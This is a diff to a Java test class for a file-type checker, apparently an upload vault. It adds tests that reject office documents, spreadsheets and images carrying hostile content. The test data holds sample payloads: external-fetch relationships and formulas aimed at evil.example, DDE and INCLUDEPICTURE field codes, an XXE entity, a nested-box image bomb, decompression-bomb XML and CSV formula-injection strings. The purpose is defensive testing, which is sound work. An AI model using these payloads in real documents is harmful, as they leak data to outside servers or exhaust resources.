@@ -2,6 +2,7 @@ package org.redress.vault;
 
 import static org.assertj.core.api.Assertions.assertThat;
 import static org.assertj.core.api.Assertions.assertThatCode;
+import static org.junit.jupiter.api.Assertions.assertTimeout;
 import static org.redress.vault.Samples.box;
 import static org.redress.vault.Samples.bytes;
 import static org.redress.vault.Samples.heic;
@@ -16,6 +17,7 @@ import java.io.IOException;
 import java.io.UncheckedIOException;
 import java.nio.ByteBuffer;
 import java.nio.ByteOrder;
+import java.time.Duration;
 import java.util.Arrays;
 import java.util.Base64;
 import java.util.List;
@@ -263,6 +265,20 @@ class FileTypesTest {
                 .contains("image/heic");
     }
 
+    /** Boxes in boxes in boxes: each takes a piece of the stack of whoever goes into it. */
+    @Test
+    void aPictureOfNothingButBoxesIsNoneAndBreaksNothing() {
+        int deep = 200_000;
+        ByteBuffer boxes = ByteBuffer.allocate(8 * deep);
+        for (int left = deep; left > 0; left--) {
+            boxes.putInt(8 * left).put(bytes("ipco"));
+        }
+        byte[] bomb = one(
+                one(box("ftyp", bytes("heic\0\0\0\0mif1heic")), box("meta", one(new byte[4], boxes.array()))),
+                box("mdat", new byte[40]));
+        assertThat(FileTypes.of(bomb)).isEmpty();
+    }
+
     /** Neither a loop without end nor an error: any byte may be anything. */
     @Test
     void noBytesMakeTheReaderStumble() {
@@ -284,13 +300,13 @@ class FileTypesTest {
     @Test
     void officeDocumentsAreKnownByWhatIsInThem() {
         assertThat(FileTypes.of(word(Map.of()))).contains(Packed.DOCX);
-        assertThat(FileTypes.of(word(Map.of("word/media/image1.png", "x", "docProps/app.xml", "x"))))
+        assertThat(FileTypes.of(word(Map.of("word/media/image1.png", "x", "docProps/app.xml", "<x/>"))))
                 .contains(Packed.DOCX);
         assertThat(FileTypes.of(zip(Map.of("mimetype", Packed.ODT)))).contains(Packed.ODT);
         assertThat(FileTypes.of(zip(Map.of("mimetype", Packed.ODS)))).contains(Packed.ODS);
         assertThat(FileTypes.of(zip(Map.of(
-                        "[Content_Types].xml", Packed.XLSX + ".main+xml",
-                        "xl/workbook.xml", "x",
+                        "[Content_Types].xml", "<Types><Override ContentType=\"" + Packed.XLSX + ".main+xml\"/></Types>",
+                        "xl/workbook.xml", "<workbook/>",
                         "xl/printerSettings/printerSettings1.bin", "x"))))
                 .contains(Packed.XLSX);
     }
@@ -306,6 +322,9 @@ class FileTypesTest {
                 "xl/macrosheets/sheet1.xml",
                 "Basic/Standard/Module1.xml",
                 "Scripts/python/run.py",
+                "xl/connections.xml",
+                "xl/queryTables/queryTable1.xml",
+                "word/webextensions/taskpanes.xml",
                 "page.html"
             })
     void withAProgramInItNoneIsTaken(String entry) {
@@ -407,7 +426,12 @@ class FileTypesTest {
                     attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External
                     image" Target="file://evil.example/x.png" TargetMode = 'External
                     image" Target="file://evil.example/x.png" TargetMode="&#69;xternal
+                    image" Target="//evil.example/x.png" x=">" TargetMode="External
+                    image" xmlns:x="/hyperlink" Target="//evil.example/x.png" TargetMode="External
+                    image" xmlns:y="urn:y" y:Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="//evil.example/x.png" TargetMode="External
+                    image" Target="http://evil.example/x.png
                     aFChunk" Target="chunk.txt
+                    connections" Target="c.txt
                     """)
     void anOfficeDocumentThatFetchesHasNoType(String relation) {
         assertThat(FileTypes.of(word(Map.of("word/_rels/document.xml.rels", relationship(relation)))))
@@ -424,13 +448,103 @@ class FileTypesTest {
 
     @Test
     void anOpenDocumentThatFetchesHasNoType() {
-        assertThat(FileTypes.of(open("<draw:image xlink:href=\"http://evil.example/x.png\"/>")))
-                .isEmpty();
-        assertThat(FileTypes.of(open("<text:section-source xlink:href='//evil.example/x'/>")))
-                .isEmpty();
+        for (String fetches : List.of(
+                "<draw:image xlink:href=\"http://evil.example/x.png\"/>",
+                "<draw:image l:href=\"http://evil.example/x.png\"/>",
+                "<draw:image draw:name='>' xlink:href=' &#104;ttp://evil.example/x.png'/>",
+                "<a:a xmlns:a='urn:a' xlink:href='//evil.example/x'/>",
+                "<text:section-source xlink:href='//evil.example/x'/>",
+                "<table:cell table:formula='of:=WEBSERVICE(&quot;http://evil.example&quot;)'/>",
+                "<table:cell table:formula=\"of:='http://evil.example/x.ods'#$A.B1\"/>",
+                "<text:dde-connection-decl/>",
+                "<draw:not-closed>")) {
+            assertThat(FileTypes.of(open(fetches))).as(fetches).isEmpty();
+        }
         assertThat(FileTypes.of(open("<text:a xlink:href=\"https://example.org\">x</text:a>"
-                        + "<draw:image xlink:href=\"Pictures/1.png\"/>")))
+                        + "<t:a xmlns:t='urn:oasis:names:tc:opendocument:xmlns:text:1.0' l:href='https://example.org'/>"
+                        + "<draw:image xlink:href=\"Pictures/1.png\"/><table:cell table:formula='of:=SUM([.A1:.A2])'/>")))
                 .contains(Packed.ODT);
+    }
+
+    /** Meta data of every document say where its template lies; LibreOffice leaves empty parts. */
+    @Test
+    void anOpenDocumentMayHaveATemplateOnTheMachineOfItsWriter() {
+        String meta = "<m:x xmlns:m='urn:oasis:names:tc:opendocument:xmlns:meta:1.0' xmlns:l='http://www.w3.org/1999/xlink'>"
+                + "<m:template l:href='%s'/></m:x>";
+        for (String own : List.of("file:///C:/Templates/letter.ott", "../letter.ott")) {
+            assertThat(FileTypes.of(zip(Map.of(
+                            "mimetype", Packed.ODT,
+                            "meta.xml", meta.formatted(own),
+                            "Configurations2/accelerator/current.xml", ""))))
+                    .as(own)
+                    .contains(Packed.ODT);
+        }
+        for (String others : List.of("http://evil.example/x.ott", "file://evil.example/x.ott", "file:////evil/x.ott")) {
+            assertThat(FileTypes.of(zip(Map.of("mimetype", Packed.ODT, "meta.xml", meta.formatted(others)))))
+                    .as(others)
+                    .isEmpty();
+        }
+    }
+
+    /** In whichever entry: a relation says which one is a sheet. */
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "<f>WEBSERVICE(\"http://evil.example/\"&amp;A1)</f>",
+                "<f>_xlfn.WEB<!-- -->SERVICE (A1)</f>",
+                "<x:f xmlns:x='urn:x'>_xlfn.IMAGE(A1)</x:f>",
+                "<definedName>webservice(A1)</definedName>",
+                "<f>RTD(\"evil.server\",,1)</f>",
+                "<w:instrText xmlns:w='urn:w'>INCLUDEPICTURE \"http://evil.example/x.png\" \\d</w:instrText>",
+                "<p><instrText> INC</instrText><r/><instrText>LUDETEXT \"//evil/x\"</instrText></p>",
+                "<fldSimple instr=' DDEAUTO excel x'/>",
+                "<v:imagedata xmlns:v='urn:schemas-microsoft-com:vml' src='http://evil.example/x.png'/>",
+                "<!DOCTYPE x [<!ENTITY e SYSTEM 'http://evil.example/'>]><x>&e;</x>",
+                "<?xml version='1.0' encoding='IBM037'?><x/>",
+                "not closed: <x>"
+            })
+    void aSheetOrATextThatAsksAServerHasNoType(String part) {
+        assertThat(FileTypes.of(word(Map.of("word/sheet.xml", part)))).isEmpty();
+        if (part.startsWith("<")) {
+            assertThat(FileTypes.of(word(Map.of("word/media/image1.png", part)))).isEmpty();
+        }
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "<f>SUM(A1:A9)</f>",
+                "<t>They told us of a WEBSERVICE( and nothing more</t>",
+                "<p><fldChar/><instrText> HYPERLINK \"https://example.org/link\" </instrText></p>",
+                "<v:shape xmlns:v='urn:schemas-microsoft-com:vml' href='https://example.org'/>",
+                "<?xml version='1.0' encoding='UTF-8' standalone='yes'?><x>&lt;Relationship&#62;</x>"
+            })
+    void whatWaitsOrIsToldIsTaken(String part) {
+        assertThat(FileTypes.of(word(Map.of("word/part.xml", part)))).contains(Packed.DOCX);
+    }
+
+    /** A few kilobytes that would keep a processor busy for hours, or fill the memory. */
+    @Test
+    void whatPacksSmallIsLookedAtInNoTime() {
+        int long64 = 64 * 1024 * 1024;
+        for (String piece : List.of("<Relationship ", "<a:b ", "<a>", "<a b='", "<a>'a:'</a>", " ", "\n", "'a:", "\0")) {
+            for (String around : List.of("", "<r>")) {
+                String text = around + piece.repeat(long64 / piece.length());
+                byte[] word = word(Map.of("word/_rels/document.xml.rels", text));
+                byte[] open = zip(Map.of("mimetype", Packed.ODT, "content.xml", text));
+                for (byte[] each : List.of(word, open)) {
+                    assertThat(each.length).isLessThan(1024 * 1024);
+                    assertTimeout(Duration.ofSeconds(2), () -> assertThat(FileTypes.of(each))
+                            .as(around + piece)
+                            .isEmpty());
+                }
+            }
+        }
+        byte[] whole = word(Map.of("word/x.xml", "<r>" + "<f>SUM(A1)</f>".repeat(long64 / 14) + "</r>"));
+        assertTimeout(Duration.ofSeconds(10), () -> assertThat(FileTypes.of(whole)).contains(Packed.DOCX));
+        assertThat(FileTypes.of(word(Map.of("word/x.xml", "<r>" + "<f>SUM(A1)</f>".repeat(long64 / 6) + "</r>"))))
+                .as("more than anybody reads")
+                .isEmpty();
     }
 
     @Test
@@ -442,6 +556,21 @@ class FileTypesTest {
                 .isEqualTo("pay.csv.txt");
         assertThat(FileAnswers.savedAs("pay.csv", "text/plain", bytes("day;pay\n1;-5,20")))
                 .isEqualTo("pay.csv");
+        for (String formula : List.of(" \n\t ' =1", "a,+A1", "a;- (1)", "\u00ef\u00bb\u00bf=1", "\u00ff\u00fe=\0001\000", "\"@SUM(1)")) {
+            assertThat(Inert.hasFormulas(bytes(formula))).as(formula).isTrue();
+        }
+        for (String told : List.of("a=b", "a,1=2", "it's = so", "-5", "+4 932", "", "mail@example.org", "'' =")) {
+            assertThat(Inert.hasFormulas(bytes(told))).as(told).isFalse();
+        }
+    }
+
+    /** At each download, of a text that anybody may have sent. */
+    @ParameterizedTest
+    @ValueSource(strings = {" ", "\n", ",\n ", "\" ", "- ", "-\n"})
+    void aTableOfNothingIsLookedAtInNoTime(String piece) {
+        byte[] nothing = bytes(piece.repeat(20 * 1024 * 1024 / piece.length()));
+        assertTimeout(Duration.ofSeconds(2), () -> assertThat(Inert.hasFormulas(nothing))
+                .isFalse());
     }
 
     private static String relationship(String relation) {
@@ -454,7 +583,12 @@ class FileTypesTest {
                 "mimetype",
                 Packed.ODT,
                 "content.xml",
-                "<office:document-content>" + content + "</office:document-content>"));
+                "<office:document-content xmlns:office='urn:oasis:names:tc:opendocument:xmlns:office:1.0'"
+                        + " xmlns:text='urn:oasis:names:tc:opendocument:xmlns:text:1.0'"
+                        + " xmlns:draw='urn:oasis:names:tc:opendocument:xmlns:drawing:1.0'"
+                        + " xmlns:table='urn:oasis:names:tc:opendocument:xmlns:table:1.0'"
+                        + " xmlns:xlink='http://www.w3.org/1999/xlink' xmlns:l='http://www.w3.org/1999/xlink'>"
+                        + content + "</office:document-content>"));
     }
 
     private static byte[] pdfWithPacked(String objects) {
